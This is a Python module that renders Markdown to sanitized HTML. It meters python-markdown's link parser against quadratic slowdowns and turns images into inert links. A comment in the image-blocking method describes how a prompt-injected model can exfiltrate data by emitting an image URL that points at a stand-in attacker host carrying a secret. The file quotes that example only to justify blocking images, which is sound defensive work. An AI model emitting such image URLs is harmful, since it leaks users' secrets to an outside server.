"""Markdown to HTML with python-markdown, its link parser metered and its tree rewritten (images
become links, alignment becomes classes), then sanitized; no time budget here (see __init__)."""

from __future__ import annotations

import logging
import re
import threading
import xml.etree.ElementTree as etree

import markdown
from markdown.extensions import Extension
from markdown.inlinepatterns import LinkInlineProcessor
from markdown.treeprocessors import Treeprocessor

from .notices import FAILED_NOTICE, LINK_NOTICE, plain_fallback
from .sanitize import ALIGN_CLASSES, fit_to_page, sanitize

logger = logging.getLogger(__name__)

# Deterministic work limit for python-markdown's link parser, in characters scanned. Its bracket
# matching rescans to the end of the paragraph for every unmatched "[" (quadratic: 8,000 "[" took
# ~50 s, a 64 KB run of them ~an hour). A 64 KB unfenced JSON dump scans ~500,000, ordinary
# prose far less; the limit stops the worst inputs after about a second.
LINK_SCAN_BUDGET = 2_000_000

class RenderBudgetExceeded(Exception):
    """The markdown parser exceeded LINK_SCAN_BUDGET on this text."""


class _ScanBudget:
    """A per-render counter of characters scanned by the link processors."""

    def __init__(self, limit: int) -> None:
        self.limit = limit
        self.used = 0

    def charge(self, characters: int) -> None:
        """Add work done; abort the render once over the limit."""
        self.used += characters
        if self.used > self.limit:
            raise RenderBudgetExceeded(f"link scanning passed {self.limit} characters")


def _link_scan_cost(data: str, start: int, result: tuple[str, str | None, int, bool]) -> int:
    """Upper bound of what LinkInlineProcessor.getLink scanned from start, given what it returned."""
    _href, title, end, handled = result
    if not data.startswith("(", start):
        return 0  # its regex fails at once: no "(" means no inline link target
    if handled and (title is not None or ("'" not in data[start:end] and '"' not in data[start:end])):
        return end - start  # it stopped at the ")" it returned (a title only resolves there)
    # A quote without a resolved title means getLink may have scanned to the end of the text
    # and backtracked, so the returned index understates the work: charge the whole remainder.
    return len(data) - start


def _meter_link_processor(processor: LinkInlineProcessor, budget: _ScanBudget) -> None:
    """Wrap one processor's getText/getLink (instance attributes shadow the methods) to charge budget."""
    get_text = processor.getText
    get_link = processor.getLink

    def metered_get_text(data: str, index: int) -> tuple[str, int, bool]:
        """getText, charged with the characters it scanned."""
        result: tuple[str, int, bool] = get_text(data, index)
        budget.charge(result[1] - index)
        return result

    def metered_get_link(data: str, index: int) -> tuple[str, str | None, int, bool]:
        """getLink, charged with an upper bound of the characters it scanned."""
        result: tuple[str, str | None, int, bool] = get_link(data, index)
        budget.charge(_link_scan_cost(data, index, result))
        return result

    processor.getText = metered_get_text
    processor.getLink = metered_get_link


_ALIGN_STYLE = re.compile(r"text-align\s*:\s*(left|center|right)", re.IGNORECASE)


class _RewriteTree(Treeprocessor):
    """Turn images into inert links and table alignment styles into classes, before serializing.

    Why here and not in nh3: nh3 can only drop or edit attributes, never rename an element, and
    doing it on python-markdown's element tree lets the serializer escape the alt text for us.
    Raw-HTML <img> never reaches this tree (python-markdown stashes raw HTML as opaque text);
    nh3 drops those because img is not in ALLOWED_TAGS.
    """

    def run(self, root: etree.Element) -> None:
        """Rewrite the tree in place (iteratively: deep nesting must not hit the recursion limit)."""
        stack: list[tuple[etree.Element, bool]] = [(root, False)]
        while stack:
            element, inside_link = stack.pop()
            for child in element:
                if child.tag == "img":
                    self._block_image(child, inside_link)
                elif child.tag in ("th", "td"):
                    self._alignment_to_class(child)
                stack.append((child, inside_link or child.tag == "a"))

    @staticmethod
    def _block_image(element: etree.Element, inside_link: bool) -> None:
        """Replace an image by a link to it (or plain text inside a link: links cannot nest)."""
        # Loading a model-chosen URL is how a prompt-injected model exfiltrates data
        # (![x](https://evil.example/?q=SECRET)), so no image is ever loaded.
        src = element.get("src", "")
        title = element.get("title")
        alt = element.get("alt", "").strip()
        element.attrib.clear()
        element.text = f"Image: {alt} (not loaded)" if alt else "Image (not loaded)"
        element.set("class", "blocked-image")
        if inside_link:
            element.tag = "span"
            return
        element.tag = "a"
        element.set("href", src)  # nh3 still vets the scheme (javascript: etc. lose the href)
        if title:
            element.set("title", title)

    @staticmethod
    def _alignment_to_class(element: etree.Element) -> None:
        """Keep a column's alignment as a class: style attributes are never allowed through."""
        match = _ALIGN_STYLE.search(element.attrib.pop("style", ""))
        align = match.group(1).lower() if match else element.attrib.pop("align", "").lower()
        element.attrib.pop("align", None)
        if f"align-{align}" in ALIGN_CLASSES:
            element.set("class", f"align-{align}")


class _ArtifactsExtension(Extension):
    """Registers the tree rewrite and meters the link processors of one Markdown instance."""

    def __init__(self, budget: _ScanBudget) -> None:
        super().__init__()
        self.budget = budget

    def extendMarkdown(self, md: markdown.Markdown) -> None:
        """Hook into md; listed last so every link processor already exists."""
        # After "inline" (20, which creates the <img> elements), before "unescape" (0).
        md.treeprocessors.register(_RewriteTree(md), "artifacts_rewrite", 15)
        for processor in md.inlinePatterns:
            if isinstance(processor, LinkInlineProcessor):  # links, images, references
                _meter_link_processor(processor, self.budget)


class _Renderer:
    """One Markdown instance with its budget; python-markdown instances are not thread-safe."""

    def __init__(self) -> None:
        self.budget = _ScanBudget(LINK_SCAN_BUDGET)
        self.md = markdown.Markdown(
            extensions=["fenced_code", "tables", "sane_lists", "codehilite", _ArtifactsExtension(self.budget)],
            extension_configs={
                # CSS classes only (noclasses=False): inline styles would be stripped anyway.
                "codehilite": {"css_class": "highlight", "guess_lang": False, "noclasses": False},
            },
            output_format="html",
        )

    def convert(self, text: str) -> str:
        """Markdown to (unsanitized) HTML, within the scan budget."""
        self.md.reset()
        self.budget.used = 0
        self.budget.limit = LINK_SCAN_BUDGET
        html: str = self.md.convert(text)
        return html


_local = threading.local()


def _renderer() -> _Renderer:
    """This thread's renderer (gthread workers render concurrently)."""
    renderer: _Renderer | None = getattr(_local, "renderer", None)
    if renderer is None:
        renderer = _local.renderer = _Renderer()
    return renderer


def render_in_process(text: str) -> str:
    """Markdown to sanitized HTML in this process, within the link scan budget (no time budget)."""
    try:
        html = _renderer().convert(text)
    except RenderBudgetExceeded:
        logger.warning("markdown render over budget (%d characters of text); showing it as plain text", len(text))
        _local.renderer = None  # state after an aborted convert is not trusted; rebuild next time
        return str(plain_fallback(text, LINK_NOTICE))
    except Exception:
        # A parser bug (or RecursionError on odd nesting) in untrusted text must not fail the page.
        logger.exception("markdown render failed; showing the text as plain text")
        _local.renderer = None
        return str(plain_fallback(text, FAILED_NOTICE))
    return fit_to_page(sanitize(html))
